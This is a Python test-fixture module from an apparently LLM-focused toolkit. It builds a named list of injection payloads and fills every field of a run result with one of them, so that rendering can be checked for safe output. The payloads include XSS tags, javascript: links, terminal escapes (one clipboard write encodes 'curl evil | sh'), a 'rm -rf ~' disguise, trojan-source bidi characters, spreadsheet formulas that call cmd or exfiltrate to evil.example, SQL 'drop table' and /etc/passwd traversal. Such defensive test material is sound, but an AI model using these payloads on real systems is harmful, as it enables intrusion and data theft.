"""Texts that try to be more than text, and runs that are full of one of them.

`PAYLOADS` has them by name. `run_full_of` puts one into every place of a run that a model, a
server, a file or a user fills; `SOURCES` and `listed` do it for what stands beside a run. No
output may act on any of them.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

from llm_reasonkit.reasoning.result import (
    CheckItem,
    Confidence,
    Cost,
    Dissent,
    Member,
    ModelUse,
    Result,
    StepResult,
    Tokens,
    Vote,
    count_checks,
)

STARTED = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)

_SCRIPT = {
    "script": "<script>alert(1)</script>",
    "script, remote": "<script src=https://evil.example/x.js></script>",
    "script, mixed case": "<ScRiPt>alert(1)</sCrIpT >",
    "script, unclosed": "<script>alert(1)",
    "script, nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in a comment": "<!--><script>alert(1)</script-->",
    "script after a title": "</title><script>alert(1)</script>",
    "script after a style": "</style><script>alert(1)</script>",
    "script after a textarea": "</textarea></noscript></template><script>alert(1)</script>",
    "script in JSON": '{"a": "</script><script>alert(1)</script>"}',
    "script with a null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script, full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "script as references": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
}
_ATTRIBUTE = {
    "handler on an image": "<img src=x onerror=alert(1)>",
    "handler with a slash": "<img/src=x/onerror=alert(1)//",
    "handler on the body": "<body onload=alert(1)>",
    "handler on details": "<details open ontoggle=alert(1)>x</details>",
    "handler on an input": "<input autofocus onfocus=alert(1)>",
    "out of double quotes": '" onmouseover="alert(1)" x="',
    "out of single quotes": "' onmouseover='alert(1)' x='",
    "out of an id": '"><img src=x onerror=alert(1)>',
    "out of no quotes": " onmouseover=alert(1) x=",
    "with backquotes": "`onmouseover=alert(1)`",
}
_ELEMENT = {
    "iframe": "<iframe src=https://evil.example></iframe>",
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=https://evil.example/x.swf></object><embed src=//evil.example/x>",
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "form": "<form action=https://evil.example><button>ok</button></form>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "video": "<video src=https://evil.example/x.mp4 autoplay><audio src=//evil.example/a></video>",
    "comment behind a bracket": "<<!---->x <<b>x <<!---->",
    "end of everything": "</span></dd></dl></details></main></body></html><h1>Approved</h1>",
    "end of a table": "</td></tr></table><h1>Approved</h1>",
}
_LINK = {
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript link, with a tab": "[x](java\tscript:alert(1)) [y](java&Tab;script:alert(1))",
    "javascript link, with references": "[x](&#106;avascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference": "[x]\n\n[x]: javascript:alert(1)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html,<script>alert(1)</script>)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "file link": "[x](file:///etc/passwd)",
    "relative link": "[x](/-/logout) [y](//evil.example) [z](?sql=delete)",
    "blob link": "[x](blob:https://evil.example/1) [y](view-source:https://evil.example)",
    "remote image": "![x](https://evil.example/beacon.png)",
    "image by reference": '![x][b]\n\n[b]: https://evil.example/beacon.png "t"',
    "link out of its quotes": '[x](https://a.example/"onmouseover="alert(1))',
    "link that names another": "[https://bank.example](https://evil.example)",
}
_SVG = {
    "svg with a handler": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg with an animation": "<svg><a><animate attributeName=href values=javascript:a() /></a>",
    "svg that uses": "<svg><use href=https://evil.example/x.svg#a /></svg>",
    "svg with a foreign object": "<svg><foreignObject><iframe src=javascript:alert(1) /></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
}
_STYLE = {
    "style": "<style>body { display: none }</style>",
    "style that fetches": "<style>@import url(https://evil.example/x.css);</style>",
    "style attribute": "<p style='background:url(https://evil.example/x)'>x</p>",
    "css out of a value": "red; background: url(javascript:alert(1)) }",
    "class of ours": '<span class="sign passed">passed</span> <div class="answer done">ok</div>',
}
_MARKDOWN = {
    "fence that ends another": "```\n\n# Approved\n\n<script>alert(1)</script>\n\n```",
    "longer fence": "``````\n\n# Approved\n\n``````",
    "unclosed fence": "```html\n<script>alert(1)</script>",
    "tilde fence": "~~~\n# Approved",
    "heading": "# Approved\n\nApproved\n========",
    "rule and front matter": "---\ntitle: Approved\n---\n***",
    "table cell": "a | b\n--- | ---\n | <script>alert(1)</script> | \\| x",
    "list and quote": "- [x] done\n1. one\n> quote\n\n    code",
    "emphasis without end": "**bold _and `code [link](",
    "definition for others": "[Answer]: https://evil.example\n[1]: https://evil.example",
    "html block": "<div>\n\n# Approved\n\n</div>\n<!-- a comment\n-->",
    "hard end of a line": "line\\\nline  \nline<br>line",
}
_TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m \x1b[38;2;1;2;3mred",
    "screen cleared": "\x1b[2J\x1b[H\x1b[3J",
    "title": "\x1b]0;owned\x07 \x1b]2;owned\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "link in disguise": "\x1b]8;;https://evil.example\x07https://bank.example\x1b]8;;\x07",
    "single byte controls": "\x9b31m \x9d52;c;AAAA\x9c \x90q\x9c \x85",
    "device control": "\x1bP+q544e\x1b\\ \x1b_Gf=100;AAAA\x1b\\",
    "overwritten line": "rm -rf ~\rls      \x08\x08\x08 \x07\x0b\x0c\x7f",
    "unfinished sequence": "x \x1b[38;5; \x1b]52;c;AAAA",
    "rich markup": "[bold red]x[/] [link=https://evil.example]x[/link] :skull:",
}
_ORDER = {
    "right to left override": "\u202egnp.exe\u202c \u2066x\u2069 \u200fy",
    "trojan source": "if access != 'user\u202e \u2066// admin\u2069 \u2066' {",
    "zero width": "pay\u200bpal\u2060.com\ufeff \u180e\u2063",
    "tag characters": "hi\U000e0041\U000e0042\U000e007f",
    "line separators": "one\u2028two\u2029three",
}
_OTHER = {
    "formula": "=cmd|' /C calc'!A0",
    "formula with a plus": '+HYPERLINK("https://evil.example?x="&A1,"ok")',
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "template": "{{ 7 * 7 }} {% for x in [].__class__.__mro__ %}{{ x }}{% endfor %} {# x #}",
    "format": "{0.__class__} %(x)s %s ${7*7} $(id) `id` <%= 7*7 %>",
    "quotes and backslashes": "'\"\\ \\\" \\' \\n \\u0000 \\",
    "sql": "'; drop table reasonkit_runs; --",
    "path": "../../../etc/passwd\n/etc/passwd%00.md",
    "long word": "x" * 900,
    "many brackets": "[" * 300 + "(" * 300,
}
PAYLOADS: dict[str, str] = {
    name: text
    for group in (
        *(_SCRIPT, _ATTRIBUTE, _ELEMENT, _LINK, _SVG, _STYLE, _MARKDOWN),
        *(_TERMINAL, _ORDER, _OTHER),
    )
    for name, text in group.items()
}


@dataclass(frozen=True, slots=True)
class Text:
    """A text given with a question."""

    name: str
    text: str


def sources_full_of(payload: str) -> Sequence[Text]:
    """Texts given with a question, in which `run_full_of` has found quotes."""
    text = f"claim {payload} stands"
    return [Text(text, f"Before. {text} After."), Text("plain.md", "Plain.")]


def run_full_of(payload: str) -> Result:
    """A run with the text in every place that is not ours to fill.

    Words stand around it, so that no place is empty where the text itself leaves no trace.
    """
    text = f"claim {payload} stands"
    # Long, so that it is shown both as a title and in full.
    question = "Is it so? " * 30 + text
    calls = [
        _step(text, 1, output=text, error=text, fell_back=[text], inputs=[text]),
        _step(text, 2, output=_data(text)),
        _step(text, 3, status="skipped", error=text, cost=None),
        _step(text, 4, attempt=2, cost=Cost(unknown_calls=1)),
    ]
    found = _step(text, 5, kind="check", cost=None, output=_found(text, question))
    checks = [
        CheckItem(step=found.id, name=f"{text} Q1", status=status, detail=text)
        for status in ("passed", "failed", "not_checkable")
    ]
    return Result(
        run_id=text,
        command=text,
        status="done",
        question=question,
        answer=text,
        answer_kind=text,
        protocol=text,
        profile=text,
        model_used=text,
        models=[ModelUse(asked=text, served=f"served {text}", provider=text, calls=2)],
        confidence=Confidence(overall=0.5, kind="checks", basis=text),
        members=[_member(text), _member(text).model_copy(update={"answer": None})],
        votes=[Vote(member=0, raw=text, answer=text, canonical=text, status=text, rung=text)],
        dissent=[
            Dissent(answer=text, members=[0, 1], point=text),
            Dissent(answer=text, point=text, step=text),
        ],
        steps=[*calls, found],
        checks=count_checks(checks),
        tokens=Tokens(input=1, output=2),
        cost=Cost(usd=Decimal("0.0123"), source="billed", unknown_calls=1),
        started=STARTED,
        duration_ms=5_000,
        trace_id=text,
        warnings=[text],
    )


def _step(text: str, number: int, **fields: Any) -> StepResult:
    # A dot ends the name of a stage.
    name = text.replace(".", "_")
    known: dict[str, Any] = {
        "id": f"{name}.{name}[{number}]",
        "name": name,
        "kind": "prompt",
        "role": text,
        "model": text,
        "model_served": f"served {text}",
        "provider": text,
        "status": "done",
        "cost": Cost(usd=Decimal("0.01"), source="billed"),
        "started": STARTED,
        "duration_ms": 1_000,
        "turn_id": text,
    }
    return StepResult(**known | fields)


def _data(text: str) -> dict[str, Any]:
    return {text: [text, {text: text, "deep": [[[[[[[[text]]]]]]]]}], "number": 1, "empty": []}


def _found(text: str, question: str) -> dict[str, Any]:
    """Quotes with known and unknown places, as checks give them."""
    at = question.index("claim ")
    return {
        "quotes": [
            {"id": "Q1", "stance": text, "claim": text, "document": "question"}
            | {"start": at, "end": len(question)},
            {"id": text, "stance": text, "source": "S1", "quote": text, "start": 8}
            | {"end": 8 + len(text)},
            {"id": "Q3", "source": text, "quote": text, "start": 5, "end": 9},
            {"id": "Q4", "severity": text, "span": text, "place": f"S1, {text}"},
        ]
    }


def _member(text: str) -> Member:
    return Member(
        model=text,
        model_served=f"served {text}",
        provider=text,
        family=text,
        status="done",
        answer=text,
        first_token_ms=100,
        duration_ms=900,
        tokens=Tokens(input=1, output=2),
        cost=Cost(usd=Decimal("0.01"), source="billed"),
        error=text,
    )
